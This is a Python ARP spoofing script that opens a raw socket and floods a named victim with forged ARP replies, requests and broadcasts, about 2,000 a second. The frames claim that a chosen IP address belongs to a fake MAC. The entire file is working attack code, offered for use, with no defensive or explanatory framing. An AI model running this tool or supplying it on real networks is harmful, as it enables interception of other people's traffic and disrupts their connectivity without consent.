#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""arp_spoof.py INTERFACE VICTIM_IP VICTIM_MAC CLAIMED_IP: tells the victim some 2,000 times a
second, by answers that nobody asked for, by questions and as news for everybody, that the claimed
address is here, until it is ended."""

import socket
import sys
import time


def main():
    interface, victim_ip, victim_mac, claimed_ip = sys.argv[1:5]
    packets = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    packets.bind((interface, 0))
    here = bytes([2, 0x66, 0x66, 0x66, 0x66, 0x66])
    there = bytes.fromhex(victim_mac.replace(":", ""))
    victim, claimed = socket.inet_aton(victim_ip), socket.inet_aton(claimed_ip)

    def arp(destination, operation, target_mac, target):
        return (destination + here + bytes.fromhex("0806 0001 0800 0604") + bytes([0, operation])
                + here + claimed + target_mac + target).ljust(60, b"\0")

    frames = [arp(there, 2, there, victim), arp(there, 1, bytes(6), victim),
              arp(b"\xff" * 6, 1, bytes(6), victim), arp(b"\xff" * 6, 2, bytes(6), claimed)]
    while True:
        for frame in 5 * frames:
            try:
                packets.send(frame)
            except OSError:
                pass
        time.sleep(0.01)


if __name__ == "__main__":
    main()
